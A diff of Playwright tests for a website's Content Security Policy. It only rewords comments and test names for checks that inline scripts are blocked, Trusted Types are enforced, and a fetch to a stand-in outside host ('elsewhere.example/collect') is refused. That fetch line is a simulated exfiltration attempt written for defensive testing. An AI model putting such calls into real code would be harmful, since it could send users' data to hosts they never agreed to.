@@ -2,13 +2,13 @@ import { addresses, expectedComplaints, site, content } from './content.ts'
 import { expect, test } from './test.ts'
 import { visit } from './visit.ts'
 
-// A violation of the policy is written to the console, which fails any test of this folder.
+// Violations of the policy are logged to the console, which fails any test in this folder.
 
 for (const address of addresses) {
   test.describe(address, () => {
     test.use({ allowedConsole: expectedComplaints(address) })
 
-    test('keeps to a security policy that lets no other script run', async ({ page }) => {
+    test('complies with its security policy, which allows no unsafe scripts', async ({ page }) => {
       await visit(page, address)
       const policy = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content')
       expect(/script-src [^;]*/.exec(policy ?? '')?.[0]).not.toContain('unsafe')
@@ -18,10 +18,10 @@ for (const address of addresses) {
   })
 }
 
-test.describe('what is smuggled into a page', () => {
+test.describe('injected code', () => {
   test.use({ allowedConsole: ['Content Security Policy', 'requires', 'TrustedHTML'] })
 
-  test('does not run, and HTML is not made of text', async ({ page }) => {
+  test('does not run, and plain strings cannot be used as HTML', async ({ page }) => {
     await visit(page, '/')
     const outcome = await page.evaluate(() => {
       const script = document.createElement('script')
@@ -38,7 +38,7 @@ test.describe('what is smuggled into a page', () => {
     expect(await page.evaluate(() => 'smuggled' in window)).toBe(false)
   })
 
-  test('sends nothing to a host that the content does not name', async ({ page }) => {
+  test('cannot reach a host that the content does not name', async ({ page }) => {
     await visit(page, '/')
     const reached = await page.evaluate(() =>
       fetch('https://elsewhere.example/collect').then(
@@ -50,7 +50,7 @@ test.describe('what is smuggled into a page', () => {
   })
 })
 
-test('pages whose text was made of Markdown can be opened in place', async ({ page }) => {
+test('pages with Markdown can be opened by client-side navigation', async ({ page }) => {
   await visit(page, '/')
   await page.getByRole('contentinfo').getByRole('link', { name: 'Privacy policy' }).click()
   await expect(page).toHaveURL(/privacy-policy/)
